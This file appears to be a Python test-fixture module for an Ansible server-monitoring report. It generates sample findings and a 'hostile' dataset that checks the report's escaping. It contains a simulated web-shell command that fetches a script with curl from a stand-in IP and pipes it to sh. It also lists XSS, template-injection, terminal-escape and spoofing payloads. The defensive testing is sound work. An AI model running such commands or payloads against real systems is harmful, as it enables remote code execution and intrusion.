# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Report data to test with: a fleet as it could be, and one whose every text is an attack."""

from __future__ import annotations

import dataclasses
import random
import typing as t

from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf.statuses import ACTIVE, STATUSES
from ansible_collections.bulwark.servers.plugins.plugin_utils.report import cards, model, score_trend, shown, summary
from ansible_collections.bulwark.servers.plugins.plugin_utils.store import Finding, HistoryEntry, Run, Simulation

NOW = 1_764_000_000.0
DAY = 86_400.0

ALERTS = {
    "package_file_modified": model.AlertText(
        "A packaged program does not match its package",
        "alert",
        "The program's content differs from what its package installed, and no other package explains it.",
        "Compare it with a clean copy. Unless someone can name the change, isolate the host and reinstall the package.",
        ("https://attack.mitre.org/techniques/T1554/",),
    ),
    "setuid_created": model.AlertText(
        "A file that runs with its owner's rights appeared",
        "alert",
        "A set-user-ID file gives everyone who runs it the rights of its owner.",
        "Find out who put it there. Remove the bit with 'chmod u-s' unless a package needs it.",
        (),
    ),
    "sshd_config_changed": model.AlertText(
        "The SSH server's configuration changed",
        "alert",
        "The settings decide who may sign in and how.",
        "Review the change, accept it into the baseline or restore the file.",
        ("https://man.openbsd.org/sshd_config",),
    ),
    "cron_changed": model.AlertText(
        "A scheduled job changed",
        "alert",
        "Jobs that cron starts survive a restart, which is why attackers like them.",
        "Read the job's command and its owner.",
        (),
    ),
    "mtime_changed": model.AlertText(
        "A file's times changed",
        "alert",
        "Only times changed, not the content.",
        "Nothing, unless it is unexpected.",
        (),
    ),
}
TECHNIQUES = {
    "T1554": model.Technique("T1554", "Compromise Host Software Binary", "Persistence", known=True),
    "T1548.001": model.Technique("T1548.001", "Setuid and Setgid", "Privilege Escalation", known=True),
    "T1053.003": model.Technique("T1053.003", "Cron", "Persistence", known=True),
}
_KINDS = (
    ("package_file_modified", "critical", "T1554", "/usr/bin/", "programs"),
    ("setuid_created", "high", "T1548.001", "/usr/local/bin/", "programs"),
    ("sshd_config_changed", "medium", "T1554", "/etc/ssh/sshd_config.d/", "ssh"),
    ("cron_changed", "low", "T1053.003", "/etc/cron.d/", "cron"),
    ("mtime_changed", "informational", "T1554", "/opt/bin/", "programs"),
)
_WEIGHTS = (2, 6, 22, 40, 30)


def data(**changes: t.Any) -> model.ReportData:
    """Return report data without anything in it, except for what is given."""
    fields: dict[str, t.Any] = {
        "title": "Findings of the servers",
        "generated": NOW,
        "version": "0.1.0",
        "limits": (),
        "runs": (),
        "findings": (),
        "coverage": (),
        "alerts": ALERTS,
        "techniques": TECHNIQUES,
    }
    fields |= changes
    histories = fields.get("histories", {})
    fields.setdefault("cards", {each.uid: cards.card(each, histories.get(each.uid, ())) for each in fields["findings"]})
    return model.ReportData(**fields)


def finding(**changes: t.Any) -> Finding:
    fields: dict[str, t.Any] = {
        "uid": "00000000-0000-5000-8000-000000000001",
        "host": "web1",
        "capability": "file_integrity",
        "alert": "setuid_created",
        "kind": "alert",
        "lifecycle": "state",
        "title": "A file that runs with its owner's rights appeared",
        "severity": "high",
        "status": "new",
        "status_since": NOW - DAY,
        "status_by": None,
        "status_reason": None,
        "suppressed_until": None,
        "last_run": "run",
        "reopened": 0,
        "scope": "programs",
        "subject": "/usr/local/bin/backup",
        "first_seen": NOW - DAY,
        "last_seen": NOW,
        "count": 1,
        "event": {"message": "A set-user-ID program appeared.", "evidences": []},
    }
    return Finding(**{**fields, **changes})


def coverage(**changes: t.Any) -> model.Coverage:
    fields: dict[str, t.Any] = {
        "host": "web1",
        "capability": "file_integrity",
        "scope": "programs",
        "status": "checked",
        "reason": "",
        "examined": 4000,
        "skipped": (),
        "skipped_count": 0,
        "time": NOW,
    }
    return model.Coverage(**{**fields, **changes})


def run(started: float = NOW - 60, **changes: t.Any) -> Run:
    fields: dict[str, t.Any] = {
        "id": f"run-{started}",
        "version": "0.1.0",
        "statuses": {},
        "started": started,
        "finished": started + 50,
        "hosts": 1,
        "capabilities": ("file_integrity",),
        "user": "alice",
        "controller": "bastion",
        "playbook": "scan.yml",
    }
    return Run(**{**fields, **changes})


def fleet(hosts: int = 12, findings: int = 140, days: int = 30) -> model.ReportData:
    """Return a fleet's data, always the same: most hosts in order, some with gaps, one that never answered."""
    chance = random.Random(20260101)  # noqa: S311 - sample data, not a secret
    names = [f"{role}-{number:03d}.example.org" for number in range(hosts) for role in ("web", "db", "queue", "edge")][
        :hosts
    ]
    runs = tuple(run(NOW - day * DAY, hosts=hosts, capabilities=("file_integrity", "audit")) for day in range(days))
    found = tuple(_finding(chance, number, names) for number in range(findings))
    made = data(
        runs=runs,
        findings=found,
        histories={each.uid: _history(each) for each in found},
        coverage=tuple(entry for number, name in enumerate(names) for entry in _host_coverage(number, name)),
    )
    return dataclasses.replace(made, scores=_scores(made, days))


def _scores(made: model.ReportData, days: int) -> tuple[score_trend.Point, ...]:
    """Return a score for each day, of which the last one is true."""
    score = summary.score(made)
    last = score.total.score if score else 0.0
    return tuple(score_trend.Point(NOW - day * DAY, max(0.0, last - day % 9)) for day in reversed(range(days)))


def _finding(chance: random.Random, number: int, names: list[str]) -> Finding:
    alert, severity, technique, folder, scope = chance.choices(_KINDS, _WEIGHTS)[0]
    path = f"{folder}{chance.choice(('backup', 'sync', 'report', 'agent', 'deploy'))}-{number}"
    first = NOW - chance.randint(0, 29) * DAY
    status = chance.choices(STATUSES, (20, 50, 8, 22))[0] if first < NOW else "new"
    last = NOW if status in ACTIVE else min(NOW, first + DAY)
    return finding(
        uid=f"00000000-0000-5000-8000-{number:012x}",
        host=chance.choice(names),
        alert=alert,
        severity=severity,
        status=status,
        scope=scope,
        subject=path,
        first_seen=first,
        last_seen=last,
        count=int((last - first) / DAY) + 1,
        event=_event(chance, path, technique),
    )


def _event(chance: random.Random, path: str, technique: str) -> dict[str, t.Any]:
    digests = ["".join(chance.choices("0123456789abcdef", k=64)) for _digest in range(2)]
    return {
        "message": f"{path} changed: sha256, mode, mtime.",
        "finding_info": {"attacks": [{"technique": {"uid": technique}}]},
        "evidences": [
            {
                "file": {
                    "name": path.rsplit("/", 1)[1],
                    "path": path,
                    "type": "Regular File",
                    "type_id": 1,
                    "size": chance.randint(1000, 900_000),
                    "modified_time": int((NOW - 3600) * 1000),
                    "hashes": [{"algorithm": "SHA-256", "algorithm_id": 3, "value": digests[1]}],
                },
                "data": {
                    "change": "modified",
                    "attributes": {
                        "sha256": {"before": digests[0], "after": digests[1]},
                        "mode": {"before": "0755", "after": "4755"},
                        "mtime": {"before": "2025-10-02 08:12:44.120000000", "after": "2025-11-24 03:55:01.000000000"},
                    },
                    "package": "not explained by any package",
                },
            }
        ],
    }


def web_shell(command: str = "sh -c 'curl -s http://192.0.2.9/x | sh'") -> Finding:
    """Return a finding with two processes of the same ancestors, one of them with this command line."""
    server = {"pid": 810, "name": "nginx", "path": "/usr/sbin/nginx", "parent_process": {"pid": 1, "name": "systemd"}}
    shell = {"pid": 4711, "name": "sh", "path": "/usr/bin/sh", "cmd_line": command, "parent_process": server}
    other = {"pid": 4712, "name": "id", "cmd_line": "id", "parent_process": server}
    return finding(
        uid="00000000-0000-5000-8000-0000000000aa",
        alert="setuid_created",
        severity="critical",
        subject="sh",
        event={
            "message": "A web server started a shell.",
            "finding_info": {"attacks": [{"technique": {"uid": "T1548.001"}}]},
            "evidences": [{"process": shell}, {"process": other}],
        },
    )


def entry(
    at: float, action: str, severity: str | None = None, by: str | None = None, reason: str | None = None
) -> HistoryEntry:
    """Return an entry of a finding's history. severity: since then, None when it is no longer active."""
    return HistoryEntry(at, "uid", "web1", action, None, severity, by, reason, None)


def _history(found: Finding) -> list[HistoryEntry]:
    entries = [entry(found.first_seen, "new", found.severity)]
    if found.status == "resolved":
        entries.append(entry(found.last_seen, "resolved", reason="Looked again, and it is gone."))
    if found.status == "suppressed":
        reason = "known and accepted until the next release."
        entries.append(entry(found.last_seen, "suppressed", by="alice", reason=reason))
    return entries


def _host_coverage(number: int, host: str) -> list[model.Coverage]:
    if number == 1:
        reason = "No result arrived: the host was unreachable, or the run was stopped before it answered."
        dark = {"host": host, "status": "not_checked", "reason": reason, "examined": 0, "time": 0}
        return [coverage(capability=name, scope=name, **dark) for name in ("file_integrity", "audit")]
    entries = [coverage(host=host, scope=scope) for scope in ("programs", "ssh", "cron", "boot", "libraries")]
    entries[4] = coverage(host=host, scope="libraries", **_explained(number))
    if number == 2:
        entries[3] = coverage(host=host, scope="boot", note="The baseline was taken by this scan.")
    if number % 4 == 3:
        skipped = (("/etc/ssh/ssh_host_ed25519_key", "Permission denied: run as root."),)
        entries[1] = coverage(host=host, scope="ssh", status="partial", skipped=skipped, skipped_count=3)
    audit: dict[str, t.Any] = {"host": host, "capability": "audit", "scope": "audit log"}
    if number % 6 == 4:
        audit |= {"status": "not_checked", "reason": "auditd is not running: install it and start it.", "examined": 0}
    return [*entries, coverage(**audit)]


def _explained(number: int) -> dict[str, t.Any]:
    """Return an upgrade that all hosts had, and a package that one of them has and no other."""
    explained = [
        model.Explained("openssh-server 1:10.0p1-7", 31, ("/usr/sbin/sshd", "/usr/lib/openssh/sshd-session")),
        model.Explained("libc6 2.41-12", 4, ("/usr/lib/x86_64-linux-gnu/libc.so.6",)),
    ]
    if number == 2:
        explained.append(model.Explained("helper-tools 0.1", 1, ("/usr/local/bin/helper",)))
    return {"explained": tuple(explained), "explained_count": sum(item.count for item in explained)}


# Everything that a host could send to break a page, a terminal or a template.
ATTACKS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</style><img src=x onerror=window.pwned=1>",
    "<!--<script>",
    "]]><svg onload=window.pwned=1>",
    "{{ lookup('pipe','id') }}",
    "{% raw %}{{ 7*7 }}",
    "javascript:window.pwned=1",
    '" onmouseover="window.pwned=1" x=\'',
    "&lt;b&gt; &amp; &#x3c;i&#x3e;",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "line\u2028separator\u2029paragraph",
    "\x1b]0;pwned\x07\x1b[2J\x00\r\n",
    "lone \ud800 surrogate \udcff",
    "${window.pwned=1} `${1}` \\u003cscript\\u003e",
    "__proto__",
    "constructor",
)


def hostile(attack: str) -> model.ReportData:
    """Return report data in which the attack stands in every text that a host or a store could bring."""
    event = {
        "message": attack,
        "finding_info": {"attacks": [{"technique": {"uid": attack}}]},
        "evidences": [
            {
                "data": {
                    attack: attack,
                    "list": [attack, {attack: [attack]}],
                    "attribute": {"before": attack, "after": None},
                }
            },
            {"file": {"path": attack, "hashes": [{"algorithm": attack, "value": attack}]}},
            {"process": {"pid": 7, "cmd_line": attack, "parent_process": {"pid": 1, "name": attack, "uid": attack}}},
        ],
        "unmapped": {"notes": [attack]},
    }
    names = {"host": attack, "capability": attack, "scope": attack}
    told = (model.Explained(attack, 3, (attack, attack)),)
    explained: dict[str, t.Any] = {"explained": told, "explained_count": 3, "note": attack}
    return data(
        title=attack,
        limits=(("hosts", attack),),
        runs=(run(NOW - DAY), run(user=attack, controller=attack, playbook=attack, capabilities=(attack,))),
        findings=tuple(
            finding(
                **names,
                uid=f"{attack} {status}",
                alert=attack,
                subject=attack,
                status=status,
                event=event,
            )
            for status in STATUSES
        ),
        histories={f"{attack} {status}": [entry(NOW - DAY, "new", "high", reason=attack)] for status in STATUSES},
        coverage=(
            coverage(**names, status="partial", skipped=((attack, attack),), skipped_count=9, **explained),
            coverage(**{**names, "host": f"{attack} dark"}, status="not_checked", reason=attack),
        ),
        alerts={
            shown.key(attack): model.AlertText(
                attack, attack, attack, attack, (attack, "https://example.org/reference")
            )
        },
        techniques={shown.key(attack): model.Technique(attack, attack, attack, known=False)},
        failed_exports=(model.FailedExport(attack, 3, NOW - DAY, attack),),
        simulations=(Simulation(attack, attack, NOW - DAY, NOW, attack, (attack,), findings=3),),
    )
